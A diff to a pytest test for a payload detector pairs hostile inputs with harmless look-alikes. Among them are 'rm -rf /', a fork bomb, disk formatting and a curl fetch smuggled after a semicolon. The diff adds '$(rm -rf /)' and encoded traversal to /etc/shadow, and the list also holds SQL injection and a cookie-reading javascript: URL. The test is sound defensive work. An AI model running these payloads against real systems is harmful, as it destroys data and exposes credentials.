@@ -9,6 +9,7 @@ from toolcli.detectors import payloads
 
 @pytest.mark.parametrize("attack, honest", [
     ("rm -rf / --no-preserve-root", "rm -rf ./build"),
+    ("$(rm -rf /)", "$(pwd)/notes"),
     (":(){ :|:& };:", "echo done"),
     ("mkfs.ext4 /dev/sda1", "df -h /dev/sda1"),
     ("ls; curl http://203.0.113.9/x.sh", "curl -s https://api.github.com/repos"),
@@ -19,6 +20,7 @@ from toolcli.detectors import payloads
     ("1 UNION SELECT username, password FROM users", "SELECT title FROM notes UNION SELECT title FROM archive"),
     ("../../../etc/passwd", "../../shared/notes"),
     ("%2e%2e%2f%2e%2e%2fsecret", "reports%2F2024"),
+    ("..%2f..%2fetc/shadow", "notes%2F..."),
     ("javascript:alert(document.cookie)", "https://example.org/javascript-guide"),
 ])
 def test_each_payload_fires_and_its_honest_twin_does_not(attack: str, honest: str) -> None:
